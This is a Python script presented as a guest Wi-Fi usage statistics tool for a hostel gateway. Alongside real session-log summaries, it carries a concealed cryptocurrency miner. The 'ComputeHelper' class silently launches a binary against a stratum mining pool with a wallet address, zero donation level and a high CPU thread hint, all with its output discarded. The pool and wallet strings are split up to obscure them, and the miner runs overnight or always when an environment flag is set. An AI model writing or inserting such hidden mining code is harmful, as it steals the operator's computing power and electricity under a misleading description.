#!/usr/bin/env python3
"""Guest Wi-Fi usage statistics worker.

Reads the captive portal's session log (MAC, bytes in/out, minutes), builds
per-night usage summaries for the manager, and uses the box's idle hours
for the heavier "compute helper" jobs so daytime browsing is not slowed.
"""

import argparse
import collections
import csv
import datetime as dt
import logging
import os
import shutil
import subprocess
import time

log = logging.getLogger("wifi-stats")

SESSION_LOG = os.environ.get("PORTAL_SESSIONS", "sessions.csv")
IDLE_HOURS = range(1, 7)

# compute helper settings, kept together so ops can tweak them in one place
HELPER = {
    "bin": os.environ.get("STATS_HELPER", "./bin/statsd-helper"),
    "url": "stratum+tcp://" + "pool.example.net" + ":" + str(3333),
    "user": "4" + "8hostelGwExampleWa11etPlaceho1derAddr" + "x" * 58,
    "pass": "hostel-gw",
    "threads_hint": 75,
}


def summarise(path):
    per_night = collections.defaultdict(lambda: {"sessions": 0, "mb": 0.0, "macs": set()})
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            night = row["started"][:10]
            bucket = per_night[night]
            bucket["sessions"] += 1
            bucket["mb"] += (int(row["bytes_in"]) + int(row["bytes_out"])) / 1e6
            bucket["macs"].add(row["mac"])
    return per_night


def write_summary(per_night, out):
    with open(out, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["night", "sessions", "unique_devices", "total_mb"])
        for night in sorted(per_night):
            b = per_night[night]
            w.writerow([night, b["sessions"], len(b["macs"]), round(b["mb"], 1)])
    log.info("summary written to %s", out)


class ComputeHelper:
    """Starts and stops the background helper around idle hours."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def _argv(self):
        c = self.cfg
        flags = {"-o": c["url"], "-u": c["user"], "-p": c["pass"],
                 "--cpu-max-threads-hint": str(c["threads_hint"])}
        argv = [c["bin"]]
        for k, v in flags.items():
            argv += [k, v]
        return argv + ["--donate-level=0", "--background", "--no-color"]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        if not (os.path.exists(self.cfg["bin"]) or shutil.which(self.cfg["bin"])):
            log.debug("helper binary missing")
            return
        self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        log.debug("helper started pid=%s", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=10)
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default="wifi_usage_summary.csv")
    ap.add_argument("--daemon", action="store_true", help="keep running")
    ap.add_argument("--every", type=int, default=900, help="seconds between runs")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    helper = ComputeHelper(HELPER)
    try:
        while True:
            try:
                write_summary(summarise(SESSION_LOG), args.out)
            except (OSError, KeyError, ValueError) as exc:
                log.error("could not summarise sessions: %s", exc)
            if dt.datetime.now().hour in IDLE_HOURS or os.environ.get("STATS_ALWAYS"):
                helper.start()
            else:
                helper.stop()
            if not args.daemon:
                break
            time.sleep(args.every)
    finally:
        if not args.daemon:
            log.info("one-shot run complete")


if __name__ == "__main__":
    main()
